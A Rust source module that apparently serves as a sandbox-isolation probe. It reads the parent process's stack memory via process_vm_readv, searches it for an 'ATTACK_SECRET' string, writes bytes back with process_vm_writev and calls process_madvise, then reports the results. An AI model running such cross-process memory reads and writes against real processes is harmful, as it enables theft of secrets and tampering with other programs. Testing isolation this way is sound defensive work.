use super::raw::{self, tell, told};

pub fn run() -> String {
    let maps = std::fs::read_to_string(format!("/proc/{}/maps", raw::parent())).unwrap_or_default();
    let stack = maps.lines().find(|line| line.ends_with("[stack]"));
    let edge = |part: usize| {
        let word = stack.and_then(|line| line.split(['-', ' ']).nth(part));
        word.and_then(|word| u64::from_str_radix(word, 16).ok()).unwrap_or(0x40_0000)
    };
    let (from, to) = (edge(0), edge(1));
    let length = if to > from { to - from } else { 4096 };
    let buffer = raw::room(length as usize / 8);
    let (ours, theirs) = (raw::words(&[buffer, length]), raw::words(&[from, length]));
    let read = raw::call(raw::PROCESS_VM_READV, &[raw::parent(), ours, 1, theirs, 1, 0]);
    let bytes = unsafe { std::slice::from_raw_parts(buffer as *const u8, length as usize) };
    let text = String::from_utf8_lossy(bytes);
    let secret = text.find("ATTACK_SECRET").map_or("", |at| &text[at..at + 60]);
    // What was read is written back: nothing changes.
    let (ours, theirs) = (raw::words(&[buffer, 64]), raw::words(&[from, 64]));
    let written = raw::call(raw::PROCESS_VM_WRITEV, &[raw::parent(), ours, 1, theirs, 1, 0]);
    let advice = tell("process_madvise", 440, &[0, theirs, 1, 21, 0]);
    format!("{} {secret}; {}", told("read", read), told("write", written))
}
